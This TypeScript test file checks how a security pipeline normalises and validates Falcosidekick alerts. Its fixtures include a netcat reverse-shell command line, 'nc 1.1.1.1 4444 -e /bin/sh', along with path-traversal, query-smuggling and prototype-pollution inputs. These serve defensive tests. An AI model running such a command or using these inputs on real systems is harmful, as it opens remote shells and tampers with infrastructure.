import fc from 'fast-check';

import { alertSchema } from '../../core/incident/alert';
import { parseLossless } from '../../core/text/json';
import { parsePriority } from '../../core/incident/priority';
import { visible } from '../../core/text/sanitize';
import { rosesPrompt } from '../../core/analysis/prompt';
import { racePrompt } from '../../core/policy/prompt';
import { PipelineError } from '../../core/errors';
import { ALERT_NAMES, alertOf, normaliseAlert, payload, payloadText, RECEIVED_AT } from '../support/alerts';

const read = (body: unknown) => normaliseAlert(body, RECEIVED_AT, 'kernel');

describe('a Falcosidekick alert', () => {
  test('becomes an alert with target, tags and time', () => {
    const alert = read(payload('pod-delete-test'));
    expect(alert).toMatchObject({
      id: '667f71f550aefd44ce5aa7eddecb6fe5',
      source: 'falco',
      trust: 'kernel',
      rule: 'Netcat Remote Code Execution in Container',
      priority: 'warning',
      time: '2026-11-21T10:15:30.123Z',
      receivedAt: '2026-11-21T10:15:31.000Z',
      target: {
        namespace: 'playground',
        pod: 'pod-delete-test',
        podUid: '00000000-0000-4000-8000-000000000000',
        container: 'shell',
        image: 'docker.io/library/busybox:1.37.0',
      },
      targetProblem: null,
    });
    expect(alert.fields['proc.cmdline']).toBe('nc 1.1.1.1 4444 -e /bin/sh');
  });

  test.each(ALERT_NAMES)('%s is valid by the schema that every node reads with', (name) => {
    expect(alertSchema.parse(alertOf(name))).toEqual(alertOf(name));
  });

  test('keeps numbers beyond 2^53 digit by digit', () => {
    expect(payloadText('pod-delete-test')).toContain('"evt.time": 1795083330123456789');
    expect(read(parseLossless(payloadText('pod-delete-test'))).fields['evt.time']).toBe('1795083330123456789');
  });

  test('is read with a field that is nested deeper than the stack, of which the first levels are shown', () => {
    const nested: unknown = JSON.parse(`${'['.repeat(200_000)}${']'.repeat(200_000)}`);
    const { target, fields } = read(payload('test-shell', {}, { 'proc.cmdline': nested }));
    expect(target?.pod).toBe('test-shell');
    expect(fields['proc.cmdline']).toMatch(/^\[+"\[…\]"\]+$/);
  });

  test('says where the code lives when custom fields do', () => {
    const said = {
      git_repo: 'https://example.com/a/b',
      pulumi_stack: 'prod',
      esc_environment: 'a/b',
      cluster_name: 'c',
    };
    const { infrastructure } = read(payload('pod-delete-test', {}, { ...said, other: 'x' }));
    expect(infrastructure).toEqual(said);
  });

  test('keeps its id when it is sent again, whatever uuid Falcosidekick gave it', () => {
    expect(read(payload('test-shell')).id).toMatch(/^[0-9a-f]{32}$/);
    for (const uuid of [undefined, null, '"} | drop', 'aaaaaaaa-0000-4000-8000-000000000000'])
      expect(read(payload('test-shell', { uuid })).id).toBe(read(payload('test-shell')).id);
    expect(read(payload('test-shell')).id).not.toBe(read(payload('escalate-test')).id);
  });

  test('has an id of its own if it is of a plugin, though another came at the same time', () => {
    const audit = (output: string) =>
      read(payload('test-shell', { source: 'k8s_audit', output }, { 'k8s.pod.name': null }));
    expect(audit('one').id).not.toBe(audit('other').id);
  });

  test('has the same fingerprint for the same rule on the same pod only', () => {
    const { fingerprint } = read(payload('test-shell'));
    expect(read(payload('test-shell', { time: '2026-11-21T11:00:00Z' })).fingerprint).toBe(fingerprint);
    expect(read(payload('test-shell', { rule: 'Other' })).fingerprint).not.toBe(fingerprint);
  });
});

describe('a target is unknown', () => {
  test.each<[string, Record<string, unknown>]>([
    ['a control character in the pod name', { 'k8s.pod.name': 'web\u0007' }],
    ['a path in the pod name', { 'k8s.pod.name': '../../secrets' }],
    ['a query in the namespace', { 'k8s.ns.name': 'a?dryRun=All' }],
    ['a uid that is none', { 'k8s.pod.uid': 'x' }],
    ['null', { 'k8s.pod.name': null }],
    ['<NA>', { 'k8s.ns.name': '<NA>' }],
    ['an empty text', { 'k8s.pod.name': '' }],
    ['a number', { 'k8s.pod.name': 7 }],
  ])('for %s', (_what, fields) => {
    const alert = read(payload('pod-delete-test', {}, fields));
    expect(alert.target).toBeNull();
    expect(alert.targetProblem).not.toBeNull();
  });

  test('for output_fields null', () => {
    expect(read({ ...payload(), output_fields: null }).target).toBeNull();
  });
});

describe('a self-test', () => {
  const marked = (synthetic: unknown) => read(payload('test-shell', {}, { synthetic }));

  test.each([true, 'true'])('is marked by output_fields: %j', (mark) => {
    const alert = marked(mark);
    expect(alert.synthetic).toBe(true);
    // The mark stands in one place, and nothing else is changed by it.
    expect(alert).toEqual({ ...alertOf('test-shell'), synthetic: true });
  });

  test.each([false, 'false', 'TRUE', 1, null, [true], { synthetic: true }])('is not: %j', (mark) => {
    expect(marked(mark).synthetic).toBe(false);
    expect(marked(mark).fields).toHaveProperty('synthetic');
  });

  test.each<[string, Record<string, unknown>, Record<string, unknown>]>([
    ["a field's value", {}, { 'proc.cmdline': 'nc "synthetic": true, synthetic=true' }],
    ['a field of another name', {}, { 'proc.env[synthetic]': 'true', 'synthetic ': true, Synthetic: true }],
    ['what stands beside output_fields', { synthetic: true, tags: ['synthetic'], hostname: 'synthetic' }, {}],
  ])('is not made by %s', (_what, change, fields) => {
    expect(read(payload('test-shell', change, fields)).synthetic).toBe(false);
  });

  test('is none where an item of an earlier version does not say', () => {
    const { synthetic: _, ...earlier } = alertOf('test-shell');
    expect(alertSchema.parse(earlier)).toEqual(alertOf('test-shell'));
  });

  test('looks to a model like any other alert', () => {
    expect(rosesPrompt(marked(true), undefined)).toEqual(rosesPrompt(alertOf('test-shell'), undefined));
    expect(racePrompt(marked(true), undefined, undefined)).toEqual(
      racePrompt(alertOf('test-shell'), undefined, undefined),
    );
  });
});

test('a priority nobody knows is kept as unknown', () => {
  expect(read(payload('test-shell', { priority: 'Apocalyptic' })).priority).toBe('unknown');
  expect(parsePriority(' INFO ')).toBe('informational');
  for (const name of ['__proto__', 'constructor']) expect(parsePriority(name)).toBe('unknown');
});

describe('what is not an alert is refused with the reason', () => {
  test.each<[unknown, RegExp]>([
    [null, /not a JSON object/],
    ['text', /not a JSON object/],
    [[payload()], /not a JSON object/],
    [{}, /not an alert of a known source \(Falcosidekick\)/],
    [payload('test-shell', { rule: '' }), /rule/],
    [payload('test-shell', { time: 'yesterday' }), /time/],
    [payload('test-shell', { time: undefined }), /time/],
    [payload('test-shell', { tags: 'a,b' }), /tags/],
    [{ ...payload('test-shell'), output_fields: [] }, /output_fields/],
  ])('%#', (body, reason) => {
    expect(() => read(body)).toThrow(reason);
    expect(() => read(body)).toThrow(PipelineError);
  });
});

test("any JSON is an alert or refused; a target's names are always Kubernetes names", () => {
  const fields = fc.dictionary(
    fc.constantFrom('k8s.ns.name', 'k8s.pod.name', 'k8s.pod.uid', 'proc.cmdline', 'git_repo', '__proto__'),
    fc.jsonValue(),
  );
  const bodies = fc.oneof(
    fc.jsonValue(),
    fc.record({
      rule: fc.string(),
      priority: fc.string(),
      time: fc.constant('2026-01-01T00:00:00Z'),
      output: fc.string(),
      output_fields: fields,
    }),
  );
  fc.assert(
    fc.property(bodies, (body) => {
      try {
        const alert = read(body);
        expect(alertSchema.safeParse(alert).success).toBe(true);
        expect(alert.target === null || /^[a-z0-9.-]+$/.test(alert.target.namespace + alert.target.pod)).toBe(true);
      } catch (error) {
        expect(error).toBeInstanceOf(PipelineError);
      }
    }),
  );
});

test('deceptive characters become visible and long texts are cut', () => {
  expect(visible('a\u202Eb\u0000c\nd', 100)).toBe('a\\u{202e}b\\u{0}c\\u{a}d');
  expect(visible('x'.repeat(50), 10)).toBe(`${'x'.repeat(10)}[…]`);
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => !/[\p{Cc}\p{Cf}]/u.test(visible(text, 1000))));
});
